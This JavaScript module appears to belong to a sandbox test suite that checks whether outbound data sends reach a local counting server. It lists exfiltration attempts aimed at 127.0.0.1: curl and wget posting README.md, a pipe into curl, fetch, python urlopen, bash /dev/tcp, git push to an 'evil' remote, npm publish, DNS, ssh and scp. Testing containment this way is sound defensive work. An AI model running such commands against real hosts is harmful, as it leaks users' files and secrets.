// Sends what it has read to somewhere else. A server on this computer counts what arrives.
import { partsFor } from './attempt-parts.mjs';

/** @param {import('./attempt-parts.mjs').Place} place @returns {import('./attempt-parts.mjs').Attempt[]} */
export function network(place) {
  const { port } = place;
  const { attempt, exec, sh, line, script, reached } = partsFor(place);
  const url = `http://127.0.0.1:${port}/`;
  const sends = (/** @type {string} */ title, /** @type {any[]} */ ...steps) =>
    attempt(title, reached(), ...steps);
  return [
    sends('curl sends a file', exec('curl', '-s', '-m', '5', '-d', '@README.md', url)),
    sends('curl sends a file by its option', exec('curl', '-s', '-m', '5', '-T', 'README.md', url)),
    sends(
      'curl takes its options from a file',
      exec('curl', '-s', '-m', '5', '-K', 'README.md', url),
    ),
    sends('curl behind a pipe', line(`cat README.md | curl -s -m 5 --data-binary @- ${url}`)),
    sends('wget sends a file', exec('wget', '-q', '-T', '5', '--post-file=README.md', url)),
    sends('code sends', exec('node', '-e', `fetch('${url}', { method: 'POST', body: 'x' })`)),
    sends(
      'a script sends',
      ...script('send.mjs', `await fetch('${url}', { method: 'POST', body: 'x' });`),
    ),
    sends(
      'python sends',
      exec('python3', '-c', `import urllib.request; urllib.request.urlopen('${url}', b'x', 5)`),
    ),
    sends('bash opens a socket', exec('bash', '-c', `echo x > /dev/tcp/127.0.0.1/${port}`)),
    sends('git pushes', exec('git', 'push', `${url}x.git`, 'HEAD')),
    sends('git pushes to a new remote', sh(`git remote add evil ${url}x.git; git push evil HEAD`)),
    sends('git asks a server', exec('git', 'ls-remote', `${url}x.git`)),
    sends('git fetches a submodule', exec('git', 'submodule', 'add', `${url}x.git`, 'sub')),
    sends('npm publishes', exec('npm', 'publish', '--registry', url)),
    sends('npm installs from a server', exec('npm', 'install', `${url}x.tgz`, '--fetch-retries=0')),
    sends(
      'a name is looked up',
      exec(
        'node',
        '-e',
        `const dns = require('dns'); dns.setServers(['127.0.0.1:${port}']); dns.resolve4('x.example', () => {})`,
      ),
    ),
    sends(
      'dig looks up a name',
      exec('dig', '@127.0.0.1', '-p', String(port), '+time=1', 'x.example'),
    ),
    sends(
      'ssh connects',
      exec('ssh', '-p', String(port), '-o', 'ConnectTimeout=3', '127.0.0.1', 'x'),
    ),
    sends('scp copies', exec('scp', '-P', String(port), 'README.md', '127.0.0.1:/tmp/')),
  ];
}
